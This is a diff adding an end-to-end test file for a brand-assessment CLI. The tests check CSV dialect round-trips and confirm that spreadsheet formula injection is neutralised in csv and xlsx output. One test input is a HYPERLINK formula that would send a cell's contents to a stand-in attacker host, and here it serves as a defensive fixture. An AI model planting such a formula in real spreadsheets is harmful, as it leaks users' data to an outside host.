@@ -1,0 +1,156 @@
+// The spreadsheet handed back (issue 13), end to end through the built binary, with LibreOffice as the other
+// real program that must read what the tool writes: csv in the user's dialect, the xlsx report, and the
+// init --xlsx template.
+import { describe, expect, it } from 'vitest';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { basename, join } from 'node:path';
+import { createRequire } from 'node:module';
+import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
+import iconv from 'iconv-lite';
+import { run } from '../helpers/cli.js';
+import { CSV_ALL_SHEETS, convert, hasSoffice } from '../helpers/soffice.js';
+import { FIELDS, fieldLabel } from '../../src/profile/fields.js';
+import { toolHeader } from '../../src/report/sheet.js';
+import { t } from '../../src/i18n/index.js';
+
+const ExcelJS = createRequire(import.meta.url)('exceljs') as typeof import('exceljs');
+const temp = (): string => mkdtempSync(join(tmpdir(), 'market-ready-sheets-'));
+const FRENCH = 'fixtures/csv/french-excel-win1252.csv';
+const INJECTION = 'fixtures/csv/formula-injection.csv';
+
+/** Verdicts of a run, by brand, from its ndjson. */
+async function verdictsOf(args: string[]): Promise<Map<string, string>> {
+  const r = await run(['assess', ...args, '--format', 'ndjson', '--fail-on', 'none']);
+  expect(r.code).toBe(0);
+  return new Map(
+    r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { brand: string; verdict: string })
+      .map((x) => [x.brand, x.verdict]),
+  );
+}
+
+describe('csv in the dialect of the spreadsheet it read', () => {
+  it('French Excel CSV (;, Windows-1252, CRLF, decimal comma) in, the same dialect out, read back: the same verdicts', async () => {
+    const dir = temp();
+    const out = join(dir, 'verdicts.csv');
+    const r = await run(['assess', FRENCH, '--format', 'csv', '--lang', 'fr', '--fail-on', 'none', '-o', out]);
+    expect(r.code).toBe(0);
+    expect(r.stderr).toBe('');
+    const bytes = readFileSync(out);
+    // Windows-1252 (É is one byte, 0xC9), no BOM, CRLF line ends, semicolons
+    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
+    expect(bytes.includes(Buffer.from([0xc9]))).toBe(true);
+    const text = iconv.decode(bytes, 'win1252');
+    expect(text).toContain('Maison Élodie');
+    expect(text.split('\r\n').length - 1).toBe(4);
+    const input = iconv.decode(readFileSync(FRENCH), 'win1252');
+    const inputRows = parse(input, { delimiter: ';' }) as string[][];
+    const rows = parse(text, { delimiter: ';', record_delimiter: '\r\n' }) as string[][];
+    expect(rows).toHaveLength(inputRows.length);
+    const width = inputRows[0]!.length;
+    // the input's own columns first, unchanged, then the tool's, headed in French
+    rows.forEach((row, i) => expect(row.slice(0, width)).toEqual(inputRows[i]));
+    const header = rows[0]!;
+    expect(header.slice(width, width + 3)).toEqual([
+      toolHeader('verdict', 'fr'),
+      toolHeader('decision', 'fr'),
+      toolHeader('decidedBy', 'fr'),
+    ]);
+    // numbers with a decimal comma
+    const score = header.indexOf(toolHeader('score', 'fr'));
+    expect(rows.slice(1).every((row) => /^\d+(,\d+)?$/.test(row[score]!))).toBe(true);
+    expect(rows.slice(1).some((row) => row[score]!.includes(','))).toBe(true);
+    // read back: the input's columns of the output, as a file in the same dialect, give the same verdicts
+    const back = join(dir, 'back.csv');
+    writeFileSync(
+      back,
+      iconv.encode(
+        stringify(
+          rows.map((row) => row.slice(0, width)),
+          { delimiter: ';', record_delimiter: '\r\n' },
+        ),
+        'win1252',
+      ),
+    );
+    const again = await verdictsOf([back]);
+    const verdict = header.indexOf(toolHeader('verdict', 'fr'));
+    expect(again.size).toBe(rows.length - 1);
+    for (const row of rows.slice(1)) expect(again.get(row[1]!)).toBe(row[verdict]);
+  });
+
+  it('--csv-dialect rfc4180 and --lang fr with YAML inputs: the dialect asked for, one row per profile', async () => {
+    const rfc = await run([
+      'assess',
+      'fixtures/brands',
+      '--format',
+      'csv',
+      '--csv-dialect',
+      'rfc4180',
+      '--fail-on',
+      'none',
+    ]);
+    expect(rfc.stdout.startsWith(toolHeader('brand', 'en') + ',')).toBe(true);
+    const yamlCount = (await verdictsOf(['fixtures/brands'])).size;
+    expect(parse(rfc.stdout, { record_delimiter: '\r\n' })).toHaveLength(yamlCount + 1);
+    const fr = await run(['assess', 'fixtures/brands', '--format', 'csv', '--lang', 'fr', '--fail-on', 'none']);
+    expect(fr.stdout.startsWith('\ufeff' + toolHeader('brand', 'fr') + ';')).toBe(true);
+    expect(parse(fr.stdout.slice(1), { delimiter: ';', record_delimiter: '\r\n' })).toHaveLength(yamlCount + 1);
+  });
+
+  it('every input row exactly once, error rows included, with their errors', async () => {
+    const r = await run(['assess', 'fixtures/csv/bad-rows.csv', '--format', 'csv', '--csv-dialect', 'rfc4180']);
+    expect(r.code).toBe(2);
+    const rows = parse(r.stdout, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+    const input = parse(readFileSync('fixtures/csv/bad-rows.csv'), { relax_column_count: true }) as string[][];
+    expect(rows).toHaveLength(input.length - 1);
+    const errors = rows.filter((x) => x.verdict === 'error');
+    expect(errors.length).toBeGreaterThan(0);
+    for (const e of errors) expect(e[toolHeader('errors', 'en')]).toMatch(/bad-rows\.csv:\d+/);
+  });
+});
+
+describe('formula injection: neutralised in csv and xlsx, and in no other format', () => {
+  const cases = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '@SUM(A1:A9)'];
+
+  it('csv: each cell that would run is text with a leading apostrophe; a bare CR stays inside its quoted cell', async () => {
+    const r = await run(['assess', INJECTION, '--format', 'csv', '--fail-on', 'none']);
+    const rows = parse(r.stdout, { record_delimiter: '\r\n' }) as string[][];
+    expect(rows).toHaveLength(5);
+    expect(rows.slice(1).map((row) => row[0])).toEqual([...cases.map((c) => `'${c}`), '-12']);
+    expect(rows[2]![3]).toBe("'-1+1");
+    expect(rows[3]![3]).toBe('line one\rline two');
+    expect(rows[4]![3]).toBe("'\tTabbed");
+    expect(r.stdout).toContain('"line one\rline two"');
+  });
+
+  it('xlsx: the same cells, as text (never a formula)', async () => {
+    const dir = temp();
+    const out = join(dir, 'v.xlsx');
+    expect((await run(['assess', INJECTION, '--format', 'xlsx', '--fail-on', 'none', '-o', out])).code).toBe(0);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(out);
+    const sheet = wb.worksheets[0]!;
+    const names = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(1).value);
+    expect(names).toEqual([...cases.map((c) => `'${c}`), '-12']);
+    expect(sheet.getRow(3).getCell(4).value).toBe("'-1+1");
+    // the sheet's xml holds no formula but the tool's own links (none here: every brand has findings, each a link)
+    const xml = execFileSync('unzip', ['-p', out, 'xl/worksheets/sheet1.xml']).toString('utf8');
+    expect(xml).toContain('&apos;=HYPERLINK(&quot;http');
+    expect([...xml.matchAll(/<f>([^<]*)<\/f>/g)].every((m) => m[1]!.startsWith('HYPERLINK(&quot;#'))).toBe(true);
+  });
+
+  it.each(['json', 'ndjson', 'text', 'markdown', 'html', 'junit', 'sarif', 'github'])(
+    '%s: the brand names as they are',
+    async (format) => {
+      const r = await run(['assess', INJECTION, '--format', format, '--fail-on', 'none']);
+      for (const name of ['+1', '@SUM(A1:A9)']) expect(r.stdout).toContain(name);
+      expect(r.stdout).not.toContain("'+1");
+      expect(r.stdout).not.toContain("'@SUM");
+    },
+  );
+});
